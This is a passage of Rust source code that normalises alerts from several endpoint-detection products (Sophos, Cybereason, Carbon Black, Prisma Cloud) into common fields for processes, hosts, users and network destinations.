        set_path(&mut e, "process.working_directory", s(d));
    }
    if let Some(p) = raw.get("pid").filter(|p| p.is_number()) {
        set_path(&mut e, "process.pid", p.clone());
    }
    if let Some(i) = r("process_integrity") {
        set_path(
            &mut e,
            "process.integrity_level",
            s(&i.to_ascii_lowercase()),
        );
    }
    if let Some(i) = r("integrity").filter(|_| r("process_integrity").is_none()) {
        set_path(
            &mut e,
            "process.integrity_level",
            s(&i.to_ascii_lowercase()),
        );
    }
    if let Some(u) = r("meta_username").or_else(|| r("username")) {
        set_user(&mut e, u);
    }
    let host = r("meta_hostname").or_else(|| obj.get("device").and_then(|d| text(d, "entity")));
    if let Some(h) = host {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(os) = r("meta_os_platform") {
        set_path(&mut e, "host.os.type", s(&os.to_ascii_lowercase()));
    }
    if let Some(n) = raw
        .get("network")
        .and_then(Json::as_array)
        .and_then(|n| n.first())
    {
        if let Some(ip) = text(n, "remote_ip") {
            set_path(&mut e, "destination.ip", s(ip));
        }
        if let Some(p) = n.get("remote_port").filter(|p| p.is_number()) {
            set_path(&mut e, "destination.port", p.clone());
        }
        if let Some(h) = text(n, "remote_host") {
            set_path(&mut e, "destination.domain", s(h));
        }
    }
    let ids: Vec<&str> = obj
        .get("mitreAttacks")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|a| a.get("tactic")?.get("techniques")?.as_array())
        .flatten()
        .filter_map(|t| text(t, "id"))
        .collect();
    set_techniques(&mut e, &ids);
    if let Some(n) = mtext(obj, "detectionDescription").or_else(|| mtext(obj, "detectionRule")) {
        set_path(&mut e, "rule.name", s(n));
    }
    if let Some(t) = mtext(obj, "time") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "id").map(str::to_owned);
    finish(&mut e, "sophos-xdr", "sophos", Json::Object(obj.clone()));
    Some((e, id))
}

/// Cybereason process queries (`/rest/visualsearch/query/simple`, and a MalOp's processes):
/// `data.resultIdToElementDataMap` holds each process by guid, with `simpleValues` (each a
/// list under `values`: `elementDisplayName`, `commandLine`, `pid`, `imageFile.*`) and
/// `elementValues` naming related elements (`parentProcess`, `ownerMachine`,
/// `calculatedUser`) by guid. The process taken is the first no other result names as its
/// parent (the newest); its parent and grandparent come from the same results, and the other
/// chains' newest command lines are added as branches.
/// A Cybereason export's list of started processes (`children`, `childProcesses`) as the
/// related elements a process query gives: each with its name and command line.
fn cybereason_children(list: Option<&Json>) -> Vec<Json> {
    list.and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|c| {
            let cmd = text(c, "commandLine")?;
            let name = text(c, "elementName").or_else(|| text(c, "name"));
            Some(json!({ "name": name, "commandLine": cmd }))
        })
        .collect()
}

pub(super) fn cybereason(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    // Other shapes are read as a process query with these results, the original kept beside.
    let as_query = |results: Map<String, Json>| {
        let mut inner = Map::new();
        set_path(
            &mut inner,
            "data.resultIdToElementDataMap",
            Json::Object(results),
        );
        let (mut e, id) = cybereason(&inner)?;
        e.insert("cybereason".into(), Json::Object(obj.clone()));
        Some((e, id))
    };
    // A MalOp whose `processTree` lists its processes oldest first with no parent named: read
    // as the MalOp's flat `processes`, each parent worked out below; an element with no command
    // line is known by its image.
    if !obj.contains_key("processes")
        && [
            "simpleValues",
            "guidString",
            "malopGuid",
            "malopDetectionType",
        ]
        .iter()
        .any(|k| obj.contains_key(*k))
        && let Some(tree) = obj.get("processTree").and_then(Json::as_array)
        && tree.iter().any(|el| text(el, "commandLine").is_some())
    {
        let name_of = |el: &Json| {
            text(el, "elementName")
                .or_else(|| text(el, "name"))
                .map(str::to_owned)
        };
        let mut procs: Vec<Json> = Vec::new();
        for el in tree.iter().filter(|el| el.is_object()) {
            let Some(name) = name_of(el) else { continue };
            let mut p = el.as_object().cloned().unwrap_or_default();
            let image = text(el, "imageFile").or_else(|| text(el, "imageFile.path"));
            let cmd = text(el, "commandLine")
                .or(image)
                .unwrap_or(&name)
                .to_owned();
            // The parent: an earlier element whose command line holds this one's, else the
            // oldest that names this one's program, else the one before it.
            let names = |c: &str| {
                c.split(|ch: char| ch.is_whitespace() || "/;&|'\"".contains(ch))
                    .any(|w| w.eq_ignore_ascii_case(&name))
            };
            let parent = procs
                .iter()
                .rev()
                .find(|q| text(q, "commandLine").is_some_and(|c| c != cmd && c.contains(&cmd)))
                .or_else(|| {
                    procs.iter().find(|q| {
                        name_of(q).is_none_or(|n| !n.eq_ignore_ascii_case(&name))
                            && text(q, "commandLine").is_some_and(names)
                    })
                })
                .or(procs.last())
                .and_then(|q| text(q, "elementName").map(str::to_owned));
            p.insert("elementName".into(), s(&name));
            p.insert("commandLine".into(), s(&cmd));
            if let Some(i) = image {
                p.insert("imageFilePath".into(), s(i));
            }
            if let Some(parent) = parent {
                p.insert("parentProcess".into(), s(&parent));
            }
            procs.push(Json::Object(p));
        }
        let mut flat = obj.clone();
        flat.remove("processTree");
        flat.insert("processes".into(), Json::Array(procs));
        let (mut e, id) = cybereason(&flat)?;
        // The MalOp's machine and user, and the connection an element of the tree made.
        let first_name = |k: &str| {
            obj.get("elementValues")?
                .get(k)?
                .get("elementValues")?
                .as_array()?
                .first()
                .and_then(|m| text(m, "name"))
        };
        if !e.contains_key("host")
            && let Some(h) = first_name("affectedMachines")
        {
            set_path(&mut e, "host.name", s(h));
        }
        if !e.contains_key("user")
            && let Some(u) =
                first_name("affectedUsers").or_else(|| tree.iter().find_map(|el| text(el, "user")))
        {
            set_user(&mut e, u);
        }
        if !e.contains_key("destination")
            && let Some(c) = tree
                .iter()
                .filter_map(|el| el.get("connections")?.as_array())
                .flatten()
                .find(|c| text(c, "direction").is_none_or(|d| !d.eq_ignore_ascii_case("incoming")))
        {
            if let Some(a) = text(c, "remoteAddress") {
                set_path(&mut e, "destination.ip", s(a));
            }
            if let Some(p) = c.get("remotePort").and_then(Json::as_i64) {
                set_path(&mut e, "destination.port", Json::from(p));
            }
        }
        e.insert("cybereason".into(), Json::Object(obj.clone()));
        return Some((e, id));
    }
    // A MalOp inbox model that lists its processes as flat `suspects` with their command lines
    // is read by those (below).
    let flat_suspects = obj
        .get("suspects")
        .and_then(Json::as_array)
        .is_some_and(|a| a.iter().any(|el| text(el, "commandLine").is_some()));
    // One process element on its own (a suspicion's or a MalOp's process, exported from the
    // investigation view): read as a query with that one result.
    if obj.contains_key("simpleValues")
        && obj.contains_key("elementValues")
        && !obj.contains_key("data")
        && !obj.get("processes").is_some_and(Json::is_array)
        && !flat_suspects
    {
        // A MalOp's own element: its root cause's processes (`primaryRootCauseElements`, each
        // an element with `simpleValues`) are the query's results.
        let roots: Vec<&Json> = obj
            .get("elementValues")
            .and_then(|v| v.get("primaryRootCauseElements"))
            .and_then(|v| v.get("elementValues"))
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter(|el| {
                text(el, "elementType") == Some("Process")
                    && el.get("simpleValues").is_some_and(Json::is_object)
            })
            .collect();
        if !roots.is_empty() {
            // The root's parent named by its own `parentProcess.*` values, and the MalOp's
            // `childProcesses` (with their command lines) as what the root started.
            let children = cybereason_children(obj.get("childProcesses"));
            let mut results = Map::new();
            for (i, el) in roots.into_iter().enumerate() {
                let guid = text(el, "guid").map_or_else(|| format!("root.{i}"), str::to_owned);
                let mut el = el.clone();
                let sv = |k: &str| {
                    el.get("simpleValues")?
                        .get(k)?
                        .get("values")?
                        .as_array()?
                        .first()?
                        .as_str()
                        .map(str::to_owned)
                };
                let (pname, pcmd) = (sv("parentProcess.name"), sv("parentProcess.commandLine"));
                let has_related =
                    |k: &str| el.get("elementValues").and_then(|v| v.get(k)).is_some();
                let mut related = Map::new();
                if (pname.is_some() || pcmd.is_some()) && !has_related("parentProcess") {
                    let mut simple = Map::new();
                    if let Some(n) = &pname {
                        simple.insert("elementDisplayName".into(), json!({ "values": [n] }));
                    }
                    if let Some(c) = &pcmd {
                        simple.insert("commandLine".into(), json!({ "values": [c] }));
                    }
                    related.insert(
                        "parentProcess".into(),
                        json!({ "elementValues": [{ "name": pname, "simpleValues": simple }] }),
                    );
                }
                if i == 0 && !children.is_empty() && !has_related("children") {
                    related.insert("children".into(), json!({ "elementValues": children }));
                }
                if !related.is_empty()
                    && let Some(m) = el.as_object_mut()
                {
                    let ev = m
                        .entry("elementValues")
                        .or_insert_with(|| Json::Object(Map::new()));
                    if let Some(ev) = ev.as_object_mut() {
                        ev.extend(related);
                    }
                }
                results.insert(guid, el);
            }
            let (mut e, _) = as_query(results)?;
            for (k, path) in [
                ("affectedMachines", "host.name"),
                ("affectedUsers", "user.name"),
            ] {
                let name = obj
                    .get("elementValues")
                    .and_then(|v| v.get(k))
                    .and_then(|v| v.get("elementValues"))
                    .and_then(Json::as_array)
                    .and_then(|a| a.first())
                    .and_then(|m| text(m, "name"));
                let (head, rest) = path.split_once('.').unwrap_or((path, ""));
                if let Some(n) = name
                    && e.get(head).and_then(|v| super::get_path(v, rest)).is_none()
                {
                    if head == "user" {
                        set_user(&mut e, n);
                    } else {
                        set_path(&mut e, path, s(n));
                    }
                }
            }
            return Some((e, mtext(obj, "guidString").map(str::to_owned)));
        }
        let guid = mtext(obj, "guidString").unwrap_or("element").to_owned();
        let mut results = Map::new();
        results.insert(guid, Json::Object(obj.clone()));
        return as_query(results);
    }
    // A MalOp whose processes are flat elements (`suspects`, `rootCauseElements`: `elementName`,
    // `commandLine`, `imageFile.path`, `parentProcess` by name, `connections`): read as its
    // processes' query results, each parent named by the element of that name.
    if !obj.contains_key("malopProcesses")
        && (obj.contains_key("machines")
            || obj.contains_key("detectionTypes")
            || obj.get("processes").is_some_and(Json::is_array)
            || flat_suspects)
    {
        // Exports name an element `elementName` or `name`, its parent `parentProcess`,
        // `parentName` or `parent`; a MalOp's other processes are `relatedProcesses` or
        // `suspiciousElements`.
        fn name_of(el: &Json) -> Option<&str> {
            text(el, "elementName").or_else(|| text(el, "name"))
        }
        // A MalOp's `elementValues.processes` may be such a flat list too.
        let nested = obj
            .get("elementValues")
            .and_then(|v| v.get("processes"))
            .and_then(Json::as_array);
        let flat: Vec<&Json> = [
            "rootCauseElements",
            "suspects",
            "relatedProcesses",
            "suspiciousElements",
            "processes",
            "childProcesses",
        ]
        .iter()
        .filter_map(|k| obj.get(*k)?.as_array())
        .chain(nested)
        .flatten()
        .filter(|el| text(el, "commandLine").is_some() && name_of(el).is_some())
        .collect();
        // `childProcesses` that name no parent are the root cause's children.
        let root_name = ["rootCauseElements", "suspects"]
            .iter()
            .filter_map(|k| obj.get(*k)?.as_array()?.first())
            .find_map(name_of);
        let children: Vec<&Json> = obj
            .get("childProcesses")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .collect();
        // The MalOp read as a process query over these results, its own fields beside them.
        let read_malop = |results: Map<String, Json>| {
            let mut inner = obj.clone();
            set_path(
                &mut inner,
                "malopProcesses.resultIdToElementDataMap",
                Json::Object(results),
            );
            cybereason(&inner)
        };
        // The MalOp's own id, not the element's.
        let malop_id = |id: Option<String>| {
            mtext(obj, "guidString")
                .or_else(|| mtext(obj, "guid"))
                .map(str::to_owned)
                .or(id)
        };
        // A MalOp whose `processes` are elements as the investigation view gives them
        // (`simpleValues`, `elementValues`): those are the query's results as they stand.
        let elements: Vec<&Json> = obj
            .get("processes")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter(|el| el.get("simpleValues").is_some_and(Json::is_object))
            .collect();
        if flat.is_empty() && !elements.is_empty() {
            let mut results = Map::new();
            for (i, el) in elements.into_iter().enumerate() {
                let guid = text(el, "guid").map_or_else(|| format!("el.{i}"), str::to_owned);
                results.insert(guid, el.clone());
            }
            let (mut e, id) = read_malop(results)?;
            e.insert("cybereason".into(), Json::Object(obj.clone()));
            return Some((e, malop_id(id)));
        }
        if !flat.is_empty() {
            let values = |v: &str| json!({ "values": [v] });
            let mut results = Map::new();
            for (i, el) in flat.iter().enumerate() {
                let mut simple = Map::new();
                if let Some(n) = name_of(el) {
                    simple.insert("elementDisplayName".into(), values(n));
                }
                for (from, to) in [
                    ("commandLine", "commandLine"),
                    ("imageFile.path", "imageFile.correctedPath"),
                    ("imageFilePath", "imageFile.correctedPath"),
                    ("imageFile.sha1", "imageFile.sha1String"),
                    ("imageFile.md5", "imageFile.md5String"),
                    ("pid", "pid"),
                ] {
                    if let Some(v) = text(el, from) {
                        simple.insert(to.into(), values(v));
                    }
                }
                if let Some(c) = el
                    .get("connections")
                    .and_then(Json::as_array)
                    .and_then(|c| c.first())
                    && let Some(a) = text(c, "remoteAddress")
                {
                    let addr = match c.get("remotePort").and_then(Json::as_i64) {
                        Some(p) => format!("{a}:{p}"),
                        None => a.to_owned(),
                    };
                    simple.insert("connections.remoteAddress".into(), values(&addr));
                }
                let mut related = Map::new();
                // The parent by name: a string, or an object with its `name`.
                let parent = text(el, "parentProcess")
                    .or_else(|| text(el, "parentName"))
                    .or_else(|| text(el, "parent"))
                    .or_else(|| {
                        root_name.filter(|_| children.iter().any(|c| std::ptr::eq(*c, *el)))
                    })
                    .or_else(|| el.get("parentProcess").and_then(|p| text(p, "name")));
                if let Some(parent) = parent {
                    let guid = flat
                        .iter()
                        .position(|q| name_of(q).is_some_and(|n| n.eq_ignore_ascii_case(parent)))
                        .filter(|j| *j != i)
                        .map(|j| format!("el.{j}"));
                    related.insert(
                        "parentProcess".into(),
                        json!({ "elementValues": [{ "guid": guid, "name": parent }] }),
                    );
                }
                // What the element started (`children`, with their command lines).
                let kids = cybereason_children(el.get("children"));
                if !kids.is_empty() {
                    related.insert("children".into(), json!({ "elementValues": kids }));
                }
                for (from, to) in [
                    ("ownerMachine", "ownerMachine"),
                    ("user", "calculatedUser"),
                    ("calculatedUser", "calculatedUser"),
                ] {
                    if let Some(v) = text(el, from) {
                        related.insert(to.into(), json!({ "elementValues": [{ "name": v }] }));
                    }
                }
                results.insert(
                    format!("el.{i}"),
                    json!({ "simpleValues": simple, "elementValues": related }),
                );
            }
            let (mut e, id) = read_malop(results)?;
            // The MalOp's own connections (`connections` beside its processes: the beacon a
            // C&C MalOp is about), when the process element carries none — only the judged
            // process's (its `ownerProcess` names it, or the connection names no owner).
            let judged_cmd = e
                .get("process")
                .and_then(|p| text(p, "command_line"))
                .unwrap_or_default()
                .to_owned();
            let judged = |owner: &str| {
                flat.iter().any(|el| {
                    name_of(el).is_some_and(|n| n.eq_ignore_ascii_case(owner))
                        && text(el, "commandLine").is_some_and(|c| judged_cmd.starts_with(c))
                })
            };
            if !e.contains_key("destination")
                && let Some(c) = obj
                    .get("connections")
                    .and_then(Json::as_array)
                    .into_iter()
                    .flatten()
                    .filter(|c| {
                        text(c, "direction").is_none_or(|d| !d.eq_ignore_ascii_case("incoming"))
                    })
                    .find(|c| {
                        text(c, "ownerProcess")
                            .or_else(|| text(c, "process"))
                            .is_none_or(judged)
                    })
            {
                if let Some(a) = text(c, "remoteAddress") {
                    set_path(&mut e, "destination.ip", s(a));
                }
                if let Some(p) = c.get("remotePort").and_then(Json::as_i64) {
                    set_path(&mut e, "destination.port", Json::from(p));
                }
                if let Some(d) = text(c, "domainName").or_else(|| text(c, "dnsQuery")) {
                    set_path(&mut e, "destination.domain", s(d));
                }
            }
            e.insert("cybereason".into(), Json::Object(obj.clone()));
            return Some((e, malop_id(id)));
        }
    }
    // A query's results, or a MalOp inbox model's processes (`malopProcesses`).
    // (`elementValues` in some MalOp exports, beside `malopGuid`.)
    let results = ["data", "malopProcesses", "elementValues"]
        .iter()
        .find_map(|k| obj.get(*k)?.get("resultIdToElementDataMap")?.as_object())?;
    // A Malop names its root-cause processes inside it (`elementValues.primaryRootCauseElements`):
    // they are read as a process query's results.
    let roots: Map<String, Json> = results
        .values()
        .filter_map(|m| {
            m.get("elementValues")?
                .get("primaryRootCauseElements")?
                .get("elementValues")?
                .as_array()
        })
        .flatten()
        .filter(|r| {
            r.get("simpleValues")
                .and_then(|v| v.get("commandLine"))
                .is_some()
        })
        .filter_map(|r| Some((text(r, "guid")?.to_owned(), r.clone())))
        .collect();
    if !roots.is_empty() {
        return as_query(roots);
    }
    let simple = |p: &Json, k: &str| -> Option<String> {
        let v = p.get("simpleValues")?.get(k)?.get("values")?.as_array()?;
        Some(v.first()?.as_str()?.trim().to_owned()).filter(|x| !x.is_empty())
    };
    let related = |p: &Json, k: &str| -> Option<(Option<String>, Option<String>)> {
        let first = related_el(p, k)?;
        Some((
            text(first, "guid").map(str::to_owned),
            text(first, "name").map(str::to_owned),
        ))
    };
    fn related_el<'j>(p: &'j Json, k: &str) -> Option<&'j Json> {
        p.get("elementValues")?
            .get(k)?
            .get("elementValues")?
            .as_array()?
            .first()
    }
    let procs: Vec<(&String, &Json)> = results
        .iter()
        .filter(|(_, p)| {
            simple(p, "commandLine").is_some() || simple(p, "elementDisplayName").is_some()
        })
        .collect();
    let parent_guid = |p: &Json| related(p, "parentProcess").and_then(|(g, _)| g);
    let is_leaf = |g: &str| {
        !procs
            .iter()
            .any(|(_, q)| parent_guid(q).as_deref() == Some(g))
    };
    let (me_guid, me) = procs
        .iter()
        .find(|(g, _)| is_leaf(g))
        .or(procs.first())
        .copied()?;
    let by_guid =
        |g: Option<String>| g.and_then(|g| procs.iter().find(|(k, _)| **k == g).map(|(_, p)| *p));
    let path = |p: &Json| {
        [
            "imageFile.correctedPath",
            "imageFilePath",
            "imageFile.filePath",
        ]
        .into_iter()
        .find_map(|k| simple(p, k))
    };
    let mut e = Map::new();
    // Other chains' newest command lines, and what the process itself started (its
    // `children`, with their command lines where the export carries them).
    let children = me
        .get("elementValues")
        .and_then(|v| v.get("children"))
        .and_then(|c| c.get("elementValues"))
        .and_then(Json::as_array);
    let others: Vec<String> = procs
        .iter()
        .filter(|(g, _)| *g != me_guid && is_leaf(g))
        .filter_map(|(_, p)| simple(p, "commandLine"))
        .chain(
            children
                .into_iter()
                .flatten()
                // (a plain `commandLine` on the child element in some exports)
                .filter_map(|c| {
                    simple(c, "commandLine").or_else(|| text(c, "commandLine").map(str::to_owned))
                }),
        )
        .collect();
    put_process(
        &mut e,
        "process",
        path(me),
        with_branches(
            simple(me, "commandLine").as_deref(),
            others.iter().map(String::as_str),
        )
        .as_deref(),
    );
    if path(me).is_none()
        && let Some(n) = simple(me, "elementDisplayName")
    {
        set_path(&mut e, "process.name", s(&n));
    }
    // Parent and grandparent: from their own results where the query returned them, else
    // by the name the child's `parentProcess` gives.
    let mut child = me;
    for prefix in ["process.parent", "process.parent.parent"] {
        let Some((guid, name)) = related(child, "parentProcess") else {
            break;
        };
        // Not among the results: the related element itself, with what it carries.
        let own = related_el(child, "parentProcess").filter(|p| p.get("simpleValues").is_some());
        match by_guid(guid).or(own) {
            Some(p) => {
                put_process(&mut e, prefix, path(p), simple(p, "commandLine").as_deref());
                if path(p).is_none()
                    && let Some(n) = simple(p, "elementDisplayName").or(name)
                {
                    set_path(&mut e, &format!("{prefix}.name"), s(&n));
                }
                child = p;
            }
            None => {
                if let Some(n) = name {
                    set_path(&mut e, &format!("{prefix}.name"), s(&n));
                }
                break;
            }
        }
    }
    // A MalOp's process carries its parent's command line and its grandparent's name as its
    // own keys.
    for (k, path) in [
        ("parentCommandLine", "process.parent.command_line"),
        ("grandParentProcess", "process.parent.parent.name"),
    ] {
        let have = path
            .split('.')
            .try_fold(&e, |m, p| m.get(p)?.as_object())
            .is_some();
        if let Some(v) = me.as_object().and_then(|m| mtext(m, k)).filter(|_| !have) {
            set_path(&mut e, path, s(v));
        }
    }
    // Where the process connected (`address:port`).
    if let Some(a) = simple(me, "connections.remoteAddress") {
        let (ip, port) = match a.rsplit_once(':') {
            Some((ip, p)) if !ip.contains(':') => (ip, p.parse::<u16>().ok()),
            _ => (a.as_str(), None),
        };
        set_path(&mut e, "destination.ip", s(ip));
        if let Some(p) = port {
            set_path(&mut e, "destination.port", Json::from(p));
        }
    }
    if let Some(pid) = simple(me, "pid").and_then(|p| p.parse::<i64>().ok()) {
        set_path(&mut e, "process.pid", Json::from(pid));
    }
    for (from, to) in [
        ("imageFile.sha1String", "process.hash.sha1"),
        ("imageFile.md5String", "process.hash.md5"),
    ] {
        if let Some(h) = simple(me, from) {
            set_path(&mut e, to, s(&h));
        }
    }
    if let Some((_, Some(u))) = related(me, "calculatedUser") {
        set_user(&mut e, &u);
    }
    if let Some((_, Some(h))) = related(me, "ownerMachine") {
        set_path(&mut e, "host.name", s(&h));
    }
    // The MalOp names its machines and users at the top.
    let top = |list: &str, k: &str| {
        obj.get(list)?
            .as_array()?
            .first()
            .and_then(|m| text(m, k))
            .map(str::to_owned)
    };
    if e.get("host").is_none()
        && let Some(h) = top("machines", "displayName")
    {
        set_path(&mut e, "host.name", s(&h));
    }
    if e.get("user").is_none()
        && let Some(u) = top("users", "displayName")
    {
        set_user(&mut e, &u);
    }
    if let Some(d) = obj
        .get("detectionTypes")
        .and_then(Json::as_array)
        .and_then(|d| d.first()?.as_str())
    {
        set_path(&mut e, "rule.name", s(d));
    }
    if let Some(os) = related_el(me, "ownerMachine")
        .and_then(|m| simple(m, "osType"))
        .or_else(|| top("machines", "osType"))
    {
        let os = match os.to_ascii_lowercase().as_str() {
            "osx" | "macos" | "mac_os" => "macos",
            "linux" => "linux",
            "windows" => "windows",
            _ => "",
        };
        if !os.is_empty() {
            set_path(&mut e, "host.os.type", s(os));
        }
    }
    if let Some(t) = simple(me, "creationTime")
        .and_then(|t| t.parse::<i64>().ok())
        .and_then(chrono::DateTime::from_timestamp_millis)
    {
        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
    }
    let id = me_guid.clone();
    finish(
        &mut e,
        "cybereason",
        "cybereason",
        Json::Object(obj.clone()),
    );
    Some((e, Some(id)))
}

/// VMware Carbon Black EDR (Response) events as its event forwarder ships them
/// (`ingress.event.procstart`, `ingress.event.netconn` …): `path` (or `process_path`),
/// `command_line`, `parent_path`, `pid`, `parent_pid`, `username`, `computer_name`; a
/// connection's `remote_ip` / `remote_port` / `domain`. Also its process documents, as the
/// process search API and watchlist hits carry them (`cmdline`, `hostname`, `process_pid`,
/// `process_md5`, `os_type`, `unique_id`, `segment_id`).
pub(super) fn carbon_black_edr(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let kind = mtext(obj, "type").unwrap_or("");
    let document = !kind.starts_with("ingress.event.")
        && obj.contains_key("process_name")
        && obj.contains_key("segment_id")
        && (obj.contains_key("unique_id") || obj.contains_key("parent_unique_id"));
    if !kind.starts_with("ingress.event.") && !document {
        return None;
    }
    let host = mtext(obj, "computer_name").or_else(|| mtext(obj, "hostname"))?;
    let mut e = Map::new();
    let path = mtext(obj, "process_path").or_else(|| mtext(obj, "path"));
    put_process(
        &mut e,
        "process",
        path.map(str::to_owned),
        mtext(obj, "command_line").or_else(|| mtext(obj, "cmdline")),
    );
    if path.is_none()
        && let Some(n) = mtext(obj, "process_name")
    {
        set_path(&mut e, "process.name", s(n));
    }
    put_process(
        &mut e,
        "process.parent",
        mtext(obj, "parent_path").map(str::to_owned),
        mtext(obj, "parent_command_line"),
    );
    if mtext(obj, "parent_path").is_none()
        && let Some(n) = mtext(obj, "parent_name")
    {
        set_path(&mut e, "process.parent.name", s(n));
    }
    for (from, to) in [
        ("pid", "process.pid"),
        ("process_pid", "process.pid"),
        ("parent_pid", "process.parent.pid"),
    ] {
        if let Some(v) = obj.get(from).filter(|v| v.is_number()) {
            set_path(&mut e, to, v.clone());
        }
    }
    for (from, to) in [
        ("sha256", "process.hash.sha256"),
        ("process_sha256", "process.hash.sha256"),
        ("md5", "process.hash.md5"),
        ("process_md5", "process.hash.md5"),
    ] {
        if let Some(h) = mtext(obj, from) {
            set_path(&mut e, to, s(&h.to_ascii_lowercase()));
        }
    }
    if let Some(u) = mtext(obj, "username") {
        set_user(&mut e, u);
    }
    if let Some(uid) = mtext(obj, "uid") {
        set_path(&mut e, "user.id", s(uid));
    }
    set_path(&mut e, "host.name", s(host));
    if let Some(os) = mtext(obj, "os_type").and_then(|o| match o {
        "windows" => Some("windows"),
        "linux" => Some("linux"),
        "osx" | "macos" => Some("macos"),
        _ => None,
    }) {
        set_path(&mut e, "host.os.type", s(os));
    }
    if let Some(w) = mtext(obj, "watchlist_name") {
        set_path(&mut e, "rule.name", s(w));
    }
    let network = kind == "ingress.event.netconn";
    if network {
        if let Some(ip) = mtext(obj, "remote_ip").or_else(|| mtext(obj, "ipv4")) {
            set_path(&mut e, "destination.ip", s(ip));
        }
        if let Some(p) = obj.get("remote_port").filter(|v| v.is_number()) {
            set_path(&mut e, "destination.port", p.clone());
        }
        if let Some(d) = mtext(obj, "domain") {
            set_path(&mut e, "destination.domain", s(d));
        }
        set_path(&mut e, "event.category", json!(["network"]));
    }
    if let Some(t) = obj
        .get("timestamp")
        .and_then(Json::as_f64)
        .and_then(|t| chrono::DateTime::from_timestamp_millis((t * 1000.0) as i64))
    {
        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
    }
    let id = mtext(obj, "process_guid")
        .or_else(|| mtext(obj, "unique_id"))
        .map(str::to_owned);
    finish(
        &mut e,
        "carbonblack_edr",
        "carbon_black",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// A Carbon Black EDR (Response) watchlist hit (`type: watchlist.hit.process`, the matching
/// process documents under `docs`): one alert per document, named by the watchlist.
pub(super) fn carbon_black_watchlist_docs(o: &Map<String, Json>) -> Option<Vec<Json>> {
    mtext(o, "type").filter(|t| t.starts_with("watchlist.hit."))?;
    let docs = o.get("docs")?.as_array()?;
    let out: Vec<Json> = docs
        .iter()
        .filter_map(Json::as_object)
        .map(|d| {
            let mut d = d.clone();
            if let Some(w) = o.get("watchlist_name") {
                d.entry("watchlist_name").or_insert_with(|| w.clone());
            }
            Json::Object(d)
        })
        .collect();
    (!out.is_empty()).then_some(out)
}

/// Prisma Cloud Compute (Twistlock) runtime audits of a container's or host's processes
/// (`type: processes`, `processPath`, `attackType`): the command is in the message
/// (`… Full command: /bin/bash /opt/x.sh`), the container and image beside it.
pub(super) fn prisma_runtime(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let path = mtext(obj, "processPath")?;
    mtext(obj, "attackType").or_else(|| mtext(obj, "ruleName"))?;
    let msg = mtext(obj, "msg")?;
    let mut e = Map::new();
    let cmd = msg
        .split_once("Full command: ")
        .map(|(_, c)| c.trim().trim_end_matches('.').trim());
    put_process(
        &mut e,
        "process",
        Some(path.to_owned()),
        cmd.filter(|c| !c.is_empty()),
    );
    if let Some(u) = mtext(obj, "user") {
        set_user(&mut e, u);
    }
    for (from, to) in [
        ("hostname", "host.name"),
        ("containerName", "container.name"),
        ("imageName", "container.image.name"),
        ("ruleName", "rule.name"),
        ("time", "@timestamp"),
    ] {
        if let Some(v) = mtext(obj, from) {
            set_path(&mut e, to, s(v));
        }
    }
    set_path(&mut e, "message", s(msg));
    let id = mtext(obj, "_id").map(str::to_owned);
    finish(
        &mut e,
        "prisma_cloud",
        "prisma_cloud",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// Sophos Central events and alerts: the SIEM integration's events (`type`
/// `Event::Endpoint::…`, the machine in `location`/`dhost`, the user in `source`/`suser`,
/// `threat` naming the detection and its technique, `core_remedy_items` listing the process
/// by its command line and the files) and the Alerts API's (`managedAgent`, `person`,
/// `description`). A behavioural detection's name says `… in 'PROGRAM' started by 'PARENT'`.
pub(super) fn sophos_central(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let kind = mtext(obj, "type")?;
    if !kind.starts_with("Event::Endpoint::")
        || !(obj.contains_key("endpoint_id")
            || obj.contains_key("managedAgent")
            || obj.contains_key("customer_id")
            || obj.contains_key("tenant"))
    {
        return None;
    }
    // The SIEM integration's and the Common API's alerts keep the detection's own fields
    // (`core_remedy_items`, `process_details` …) under `data`: read them as the alert's.
    // A detection's process and the child it started as objects (`process`: `path`,
    // `cmdline`, `parent`, `user`, `integrity`; `child`) are read as the flat fields.
    let original = obj;
    let merged;
    let obj = {
        let mut m = obj.clone();
        // (`raw_data` in some exports of the same detection)
        for d in ["data", "raw_data"] {
            if let Some(data) = obj.get(d).and_then(Json::as_object) {
                for (k, v) in data {
                    m.entry(k.clone()).or_insert_with(|| v.clone());
                }
            }
        }
        for (o, fields) in [
            (
                "process",
                &[
                    ("path", "process_path"),
                    ("cmdline", "process_command_line"),
                    ("cmdLine", "process_command_line"),
                    ("parent", "process_parent_path"),
                    ("parent_path", "process_parent_path"),
                    ("parent_cmdline", "process_parent_command_line"),
                    ("user", "process_user"),
                    ("integrity", "process_integrity"),
                ][..],
            ),
            (
                "child",
                &[
                    ("path", "child_process_path"),
                    ("cmdline", "child_process_command_line"),
                ][..],
            ),
            // The process's parent and grandparent as objects beside it.
            (
                "parent",
                &[
                    ("path", "process_parent_path"),
                    ("cmdline", "process_parent_command_line"),
                    ("cmdLine", "process_parent_command_line"),
                ][..],
            ),
            (
                "grandparent",
                &[
                    ("path", "process_grandparent_path"),
                    ("cmdline", "process_grandparent_command_line"),
                    ("cmdLine", "process_grandparent_command_line"),
                ][..],
            ),
        ] {
            // (at the top, or under `data` as the SIEM integration sends it)
            let Some(x) = m.get(o).filter(|x| x.is_object()).cloned() else {
                continue;
            };
            for (from, to) in fields {
                if let Some(v) = text(&x, from) {
                    m.entry((*to).to_owned()).or_insert_with(|| s(v));
                }
            }
        }
        merged = m;
        &merged
    };
    let mut e = Map::new();
    let name = mtext(obj, "name").or_else(|| mtext(obj, "description"));
    // `… in 'C:\…\wscript.exe' started by 'C:\…\WINWORD.EXE'`
    let quoted = |after: &str| -> Option<String> {
        let n = name?;
        let i = n.find(after)? + after.len();
